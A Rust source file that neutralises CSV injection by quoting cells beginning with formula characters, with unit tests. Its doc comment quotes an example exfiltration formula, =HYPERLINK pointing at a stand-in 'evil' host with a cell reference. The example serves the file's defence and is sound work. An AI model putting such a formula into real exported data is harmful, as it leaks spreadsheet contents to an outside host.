//! CSV cells a spreadsheet would run as a formula are neutralised (the OWASP rule for CSV
//! injection): a text cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
//! leading `'`, which spreadsheets read as "this is text". Content is untrusted, and a title such
//! as `=HYPERLINK("http://evil/?"&A1)` would otherwise run when a reader opens the download.
//! Numbers written as numbers are not text cells and are left alone.

use std::borrow::Cow;

/// `text` as a safe CSV text cell (`text` itself, not copied, when it is safe already).
pub fn cell<'a>(text: impl Into<Cow<'a, str>>) -> Cow<'a, str> {
    let text = text.into();
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}").into()
    } else {
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_are_quoted_and_other_text_is_kept() {
        for (from, to) in [
            ("=1+1", "'=1+1"),
            ("+52 55", "'+52 55"),
            ("-cmd", "'-cmd"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=x", "'\t=x"),
            ("\r=x", "'\r=x"),
            ("Cirugías", "Cirugías"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(cell(from), to);
        }
    }
}
